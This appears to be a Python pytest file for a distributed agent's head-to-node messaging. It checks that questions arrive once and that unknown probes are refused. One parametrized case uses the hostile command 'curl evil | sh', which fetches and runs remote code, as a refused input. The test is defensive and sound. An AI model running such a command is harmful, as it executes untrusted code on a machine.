"""What the head wants and asks, over the real port and on the node."""

from __future__ import annotations

from typing import TYPE_CHECKING

import anyio
import pytest

from agent.decisions.shared import (
    ALL_REDUCE,
    REACH,
    NodeWanted,
    Question,
    QuestionKind,
    Want,
)
from agent.job.services import Placeholders
from agent.run import questions
from agent.run.questions import Questions
from support.free_ports import free_port
from support.heads import RETRIEVER
from support.linked_worker import SECONDS, LinkedWorker, head_at
from support.node_runs import node_run_with

if TYPE_CHECKING:
    from pathlib import Path

    from agent.port.protocol import Reply

SECOND = {RETRIEVER: Want(2)}


class Listens(LinkedWorker):
    """A worker behind a real link; what it is asked is only recorded."""

    def __init__(self, port: int) -> None:
        super().__init__(port)
        self.asked: list[str] = []

    def _on_reply(self, reply: Reply) -> None:
        if reply.wanted is not None:
            self.asked += [question.name for question in reply.wanted.questions]


async def told(port: int) -> Listens:
    """Tell a worker three things one after another, and wait for each."""
    one = Listens(port)
    async with head_at(port) as reports, anyio.create_task_group() as tasks:
        tasks.start_soon(one.link.run)
        with anyio.fail_after(SECONDS):
            while not one.state.last_reply_at:
                await one.changed.wait()
        reports.want("agent1", {RETRIEVER: Want()})
        await one.until_told(1)
        reports.ask("agent1", QuestionKind.LOG, "ray")
        await one.until_told(2)
        reports.want("agent1", SECOND)
        await one.until_told(3)
        tasks.cancel_scope.cancel()
    return one


def test_messages_arrive_at_once_and_count_once() -> None:
    """A held report returns them at once; the next reply does not repeat them."""
    one = anyio.run(told, free_port())
    assert one.asked == ["ray"]
    assert one.state.head_wants == SECOND


def heard(root: Path, *messages: NodeWanted, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Return what a node begins to answer, and the lines of its log."""
    done: list[str] = []
    monkeypatch.setattr(questions, "say", lambda line, _level: done.append(line))

    class Listener(Questions):
        async def probe(self, question: Question) -> None:
            done.append(f"probe {question.name} {question.at}")

        async def fetch_log(self, name: str) -> None:
            done.append(f"log {name}")

    run = node_run_with(root, ())

    async def scenario() -> None:
        async with anyio.create_task_group() as tasks:
            asked = Listener(run, Placeholders, lambda: None)
            for message in messages:
                asked.take(message, tasks)

    anyio.run(scenario)
    run.close()
    return done


def message(by: str, revision: int, *asked: Question) -> NodeWanted:
    """Return a message of a head's agent with questions."""
    return NodeWanted(by, revision, {}, questions=asked)


LOG = Question(1, QuestionKind.LOG, "agent")
TO_NODE = Question(2, QuestionKind.PROBE, REACH, at="10.0.0.3")


@pytest.mark.parametrize(
    ("messages", "done"),
    [
        (
            [message("a", 1, LOG), message("a", 2, LOG, TO_NODE)],
            ["log agent", "probe reach 10.0.0.3"],
        ),
        ([message("a", 1, LOG), message("b", 1, LOG)], ["log agent", "log agent"]),
    ],
    ids=["a repeated question", "another agent of the head"],
)
def test_each_question_is_answered_once(
    messages: list[NodeWanted],
    done: list[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Each of the head's agents counts its own."""
    assert heard(tmp_path, *messages, monkeypatch=monkeypatch) == done


@pytest.mark.parametrize("name", ["format", "curl evil | sh", "", ALL_REDUCE])
def test_a_head_can_ask_nothing_else(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A probe that no node knows, or a thing that nodes run, is refused."""
    question = Question(1, QuestionKind.PROBE, name)
    (line,) = heard(tmp_path, message("a", 1, question), monkeypatch=monkeypatch)
    assert line == f"a question of the head's is refused: this node has no probe {name!r}"
